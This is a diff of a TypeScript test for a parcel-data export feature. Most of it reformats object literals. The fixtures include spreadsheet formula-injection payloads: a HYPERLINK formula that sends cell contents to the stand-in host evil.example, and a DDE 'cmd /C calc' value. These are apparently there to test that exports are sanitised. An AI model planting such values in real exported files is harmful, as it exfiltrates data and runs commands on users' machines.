@@ -17,7 +17,7 @@ const dataDir = mkdtempSync(join(tmpdir(), 'make-file-test-'));
 const app = createApp({ config: loadConfig({ DATA_DIR: dataDir }), sql, logger: createLogger('silent') });
 const cambridge = '/us/ma/middlesex/cambridge';
 const owner = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
-const address = '-2+3+cmd|\' /C calc\'!A0';
+const address = "-2+3+cmd|' /C calc'!A0";
 let parcelnumb = '';
 let userId = 0;
 
@@ -36,11 +36,27 @@ afterAll(async () => {
 
 async function exportOf(format: string): Promise<string> {
   const id = await insertExport(sql, {
-    groupId: null, userId, projectId: null, orderId: null, kind: 'export', path: cambridge, format, product: null, level: 'pro',
+    groupId: null,
+    userId,
+    projectId: null,
+    orderId: null,
+    kind: 'export',
+    path: cambridge,
+    format,
+    product: null,
+    level: 'pro',
     definition: { query: { parcel: true, path: cambridge, filters: { parcelnumb: [parcelnumb] } } },
-    requested: 1, freeRows: 0, priceCents: 0, token: `tok-${format}-${Date.now()}`, createdAt: new Date(), expiresAt: new Date(Date.now() + 86400_000),
+    requested: 1,
+    freeRows: 0,
+    priceCents: 0,
+    token: `tok-${format}-${Date.now()}`,
+    createdAt: new Date(),
+    expiresAt: new Date(Date.now() + 86400_000),
   });
-  const { filename } = await makeExportFile((await exportById(sql, id))!, { databaseUrl: inject('databaseUrl'), dataDir });
+  const { filename } = await makeExportFile((await exportById(sql, id))!, {
+    databaseUrl: inject('databaseUrl'),
+    dataDir,
+  });
   return readFileSync(join(dataDir, 'exports', filename), 'utf8');
 }
 
